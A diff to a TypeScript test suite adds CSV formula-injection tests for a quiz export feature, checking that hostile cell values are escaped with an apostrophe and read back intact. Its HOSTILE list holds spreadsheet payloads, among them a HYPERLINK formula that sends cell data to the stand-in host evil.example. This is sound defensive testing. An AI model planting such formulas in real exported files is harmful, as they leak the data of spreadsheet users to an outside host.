@@ -11,6 +11,7 @@ import {
   sourceCredit,
   toPortable,
 } from './portable';
+import { neutralise } from './text';
 
 const today = new Date('2026-12-05T00:00:00Z');
 
@@ -180,6 +181,54 @@ describe('CSV safety', () => {
     expect(text).toContain('\r\n');
     expect(text).toContain("'=SUM(A1)");
     expect(text).not.toMatch(/(^|,)=SUM/m);
+  });
+
+  // Probe 7b: full-width operators (Excel and LibreOffice take them as the ASCII ones), leading
+  // whitespace (trimmed before a spreadsheet decides) and a leading line feed passed as text.
+  const HOSTILE = [
+    '\uFF1DHYPERLINK("http://evil.example/?"&A2,"Click")',
+    '\uFF0B1+1',
+    '\uFF0D1+1',
+    '\uFF20SUM(A1)',
+    ' =1+1',
+    '\u00A0=1+1',
+    '\u3000\uFF1D1+1',
+    '\t=1+1',
+    '\n=1+1',
+    '\r=1+1',
+    "'=1+1",
+  ];
+
+  it.each(HOSTILE)('marks %j as text in the CSV and reads it back as written', async (label) => {
+    const question = SET.questions[0];
+    const options = question?.prompt.options;
+    if (!question || !options) {
+      throw new Error('fixture');
+    }
+    const set = {
+      ...SET,
+      questions: [
+        {
+          ...question,
+          prompt: {
+            ...question.prompt,
+            options: options.map((o, i) => (i === 2 ? { ...o, label } : o)),
+          },
+        },
+      ],
+    };
+    const text = (await exportSet(set, 'CSV', today)).content as string;
+    expect(text).toContain(`"'${label.replace(/"/g, '""')}"`);
+    const check = await checkImport('CSV', text);
+    expect(check.problems).toEqual([]);
+    // The importer trims a cell before it looks for our apostrophe, so only the text survives.
+    expect(check.questions[0]?.question.options?.[2]?.label.trim()).toBe(label.trim());
+  });
+
+  it('leaves ordinary text alone', () => {
+    for (const text of ['Iran', 'Syria = ally?', 'a-b', '3 + 4', 'e-mail @home', '']) {
+      expect(neutralise(text)).toBe(text);
+    }
   });
 
   it('neutralises XLSX text cells too, and keeps numbers numeric', async () => {
